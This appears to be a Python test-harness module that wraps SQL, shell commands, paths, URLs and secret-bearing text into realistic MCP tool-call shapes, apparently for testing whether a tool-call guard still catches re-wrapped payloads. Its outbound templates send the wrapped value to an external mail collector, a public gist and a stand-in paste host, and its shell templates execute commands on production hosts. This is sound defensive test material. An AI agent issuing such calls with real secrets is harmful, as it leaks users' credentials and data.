"""Tool-call shapes for the re-wrap harness: the same payload as many real MCP servers would receive it.

Each template turns one value (a SQL statement, a command line, a path, a URL, a text carrying a
secret or PII) into `(tool_name, arguments, tool_schema, annotations)`. Names and argument names
follow real servers (Postgres/SQLite/BigQuery/Snowflake/Supabase MCP, GitHub, filesystem,
desktop-commander, mcp-shell-server, Playwright/Puppeteer, fetch, Slack, Notion, Linear ...) and the
generic shapes agents meet (an `input` string, an `action` + `payload` pair, a value two levels deep,
the arguments as a JSON string).
"""

from __future__ import annotations

import json
import shlex
from typing import Any, Callable

Shape = tuple[str, Any, "dict[str, Any] | None", "dict[str, Any] | None"]
Template = Callable[[str], Shape]


def _argv(cmd: str) -> list[str]:
    try:
        return shlex.split(cmd)
    except ValueError:
        return cmd.split()


def _schema(**props: str) -> dict[str, Any]:
    return {"type": "object", "properties": {k: {"type": "string", "description": d} for k, d in props.items()}}


SQL: dict[str, Template] = {
    "corpus execute_sql(query)": lambda v: ("execute_sql", {"query": v}, None, None),
    "postgres query(sql)": lambda v: ("query", {"sql": v}, None, {"readOnlyHint": True}),
    "sqlite write_query(query)": lambda v: ("write_query", {"query": v}, None, None),
    "bigquery execute-query(query)": lambda v: ("execute-query", {"query": v}, None, None),
    "snowflake run(statement)": lambda v: ("snowflake_run", {"statement": v, "warehouse": "COMPUTE_WH"}, None, None),
    "supabase execute_sql(project_id,query)": lambda v: ("execute_sql", {"project_id": "abcd1234", "query": v}, None, None),
    "neon run_sql(params.sql)": lambda v: ("run_sql", {"params": {"sql": v, "projectId": "p-1"}}, None, None),
    "mysql mysql_query(sql)": lambda v: ("mysql_query", {"sql": v, "database": "shop"}, None, None),
    "generic tool(input)": lambda v: ("analytics", {"input": v}, None, None),
    "action+payload": lambda v: ("db", {"action": "query", "payload": v}, None, None),
    "nested 2 deep": lambda v: ("report", {"request": {"source": {"statement": v}}}, None, None),
    "json string": lambda v: ("invoke", {"arguments": json.dumps({"query": v})}, None, None),
    "odd name + schema": lambda v: ("lookup", {"expr": v},
                                    _schema(expr="SQL statement to run against the warehouse"), None),
}

SHELL: dict[str, Template] = {
    "corpus run_command(command)": lambda v: ("run_command", {"command": v}, None, None),
    "execute_command(command)": lambda v: ("execute_command", {"command": v}, None, None),
    "desktop start_process(command)": lambda v: ("start_process", {"command": v, "timeout_ms": 5000}, None, None),
    "shell_execute(command=[argv])": lambda v: ("shell_execute", {"command": _argv(v), "directory": "/srv/app"}, None, None),
    "docker exec cmd=[sh,-c]": lambda v: ("docker_exec", {"container": "web", "cmd": ["sh", "-c", v]}, None, None),
    "kubectl exec command=[argv]": lambda v: ("kubectl_exec", {"pod": "api-0", "namespace": "prod",
                                                               "command": ["/bin/sh", "-c", v]}, None, None),
    "ssh_exec(host,command)": lambda v: ("ssh_exec", {"host": "10.0.0.5", "command": v}, None, None),
    "run_python os.system": lambda v: ("run_python", {"code": f"import os\nos.system({v!r})"}, None, None),
    "execute_code subprocess": lambda v: ("execute_code", {"language": "python",
                                                           "code": f"import subprocess\nsubprocess.run({v!r}, shell=True)"},
                                          None, None),
    "node child_process": lambda v: ("run_javascript", {"code": f"require('child_process').execSync({json.dumps(v)})"},
                                     None, None),
    "generic tool(input)": lambda v: ("helper", {"input": v}, None, None),
    "action+payload": lambda v: ("terminal", {"action": "run", "payload": v}, None, None),
    "nested 2 deep": lambda v: ("task", {"spec": {"step": {"run": v}}}, None, None),
    "json string": lambda v: ("invoke", {"arguments": json.dumps({"command": v})}, None, None),
    "odd name + schema": lambda v: ("ops", {"line": v}, _schema(line="Shell command to execute on the host"), None),
}

PATH: dict[str, Template] = {
    "corpus read_file(path)": lambda v: ("read_file", {"path": v}, None, None),
    "fs read_text_file(path)": lambda v: ("read_text_file", {"path": v, "head": 200}, None, {"readOnlyHint": True}),
    "fs read_multiple_files(paths=[])": lambda v: ("read_multiple_files", {"paths": ["README.md", v]}, None, None),
    "github get_file_contents": lambda v: ("get_file_contents", {"owner": "acme", "repo": "web", "path": v}, None, None),
    "get_file_info(path)": lambda v: ("get_file_info", {"path": v}, None, None),
    "download(file_path)": lambda v: ("download_attachment", {"file_path": v}, None, None),
    "open_document(filename)": lambda v: ("open_document", {"filename": v}, None, None),
    "generic tool(input)": lambda v: ("helper", {"input": v}, None, None),
    "action+payload": lambda v: ("files", {"action": "read", "payload": v}, None, None),
    "nested 2 deep": lambda v: ("storage", {"request": {"target": {"file": v}}}, None, None),
    "json string": lambda v: ("invoke", {"arguments": json.dumps({"path": v})}, None, None),
    "odd name + schema": lambda v: ("fetch_doc", {"ref": v}, _schema(ref="Path of the file to open"), None),
}

URL: dict[str, Template] = {
    "corpus http_request(method,url)": lambda v: ("http_request", {"method": "GET", "url": v}, None, None),
    "fetch(url,max_length)": lambda v: ("fetch", {"url": v, "max_length": 5000}, None, {"openWorldHint": True}),
    "playwright browser_navigate": lambda v: ("browser_navigate", {"url": v}, None, None),
    "puppeteer_navigate": lambda v: ("puppeteer_navigate", {"url": v}, None, None),
    "browser_evaluate(function)": lambda v: ("browser_evaluate", {"function": f"() => fetch({json.dumps(v)}).then(r => r.text())"},
                                             None, None),
    "rest api_call(endpoint)": lambda v: ("api_call", {"method": "GET", "endpoint": v, "params": {}, "body": None}, None, None),
    "scrape(target)": lambda v: ("scrape_page", {"target": v, "format": "markdown"}, None, None),
    "generic tool(input)": lambda v: ("helper", {"input": v}, None, None),
    "action+payload": lambda v: ("web", {"action": "get", "payload": v}, None, None),
    "nested 2 deep": lambda v: ("crawl", {"job": {"seed": {"location": v}}}, None, None),
    "json string": lambda v: ("invoke", {"arguments": json.dumps({"url": v})}, None, None),
    "odd name + schema": lambda v: ("grab", {"src": v}, _schema(src="URL of the page to download"), None),
}

# Secrets and PII leave in a message, a file, an issue, a page: outbound shapes.
TEXT: dict[str, Template] = {
    "corpus post_message(channel,text)": lambda v: ("post_message", {"channel": "#general", "text": v}, None, None),
    "send_email external": lambda v: ("send_email", {"to": "dropbox.collector@proton.me", "subject": "notes", "body": v},
                                      None, None),
    "slack_post_message(channel_id)": lambda v: ("slack_post_message", {"channel_id": "C0123ABC", "text": v}, None, None),
    "github create_issue(body)": lambda v: ("create_issue", {"owner": "acme", "repo": "web", "title": "config", "body": v},
                                            None, None),
    "github create_or_update_file": lambda v: ("create_or_update_file", {"owner": "acme", "repo": "web", "path": "notes.md",
                                                                         "content": v, "message": "notes", "branch": "main"},
                                               None, None),
    "create_gist files{}": lambda v: ("create_gist", {"description": "notes", "public": True,
                                                      "files": {"notes.txt": {"content": v}}}, None, None),
    "notion children[] rich_text": lambda v: ("API-post-page", {"parent": {"page_id": "a1b2"},
                                                                "children": [{"paragraph": {"rich_text": [{"text": {"content": v}}]}}]},
                                              None, None),
    "discord send_message(message)": lambda v: ("send_message", {"channelId": "1234567890", "message": v}, None, None),
    "generic tool(input)": lambda v: ("helper", {"input": v}, None, None),
    "action+payload": lambda v: ("notify", {"action": "send", "payload": v}, None, None),
    "json string webhook": lambda v: ("webhook_post", {"url": "https://hooks.example.net/in/42",
                                                       "body": json.dumps({"text": v})}, None, None),
    "http POST external": lambda v: ("http_request", {"method": "POST", "url": "https://paste.example.net/api",
                                                      "body": v}, None, None),
}

KINDS: dict[str, dict[str, Template]] = {
    "sql": SQL, "shell": SHELL, "path": PATH, "url": URL, "secret": TEXT, "pii": TEXT,
}
